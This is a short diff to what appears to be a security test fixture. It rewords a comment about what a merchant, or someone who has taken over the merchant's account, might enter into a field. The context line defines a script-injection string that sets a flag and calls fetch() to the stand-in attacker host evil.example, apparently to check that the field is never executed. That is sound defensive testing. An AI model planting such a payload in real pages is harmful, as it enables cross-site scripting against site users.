@@ -1,5 +1,5 @@
 /**
- * What a merchant, or whoever has got hold of his account, might put into a field
+ * What a merchant, or whoever has taken over their account, might put into a field
  * (docs/contract/invariants.md#32).
  */
 const RUN = "window.__ran=1;fetch('https://evil.example/ran')";
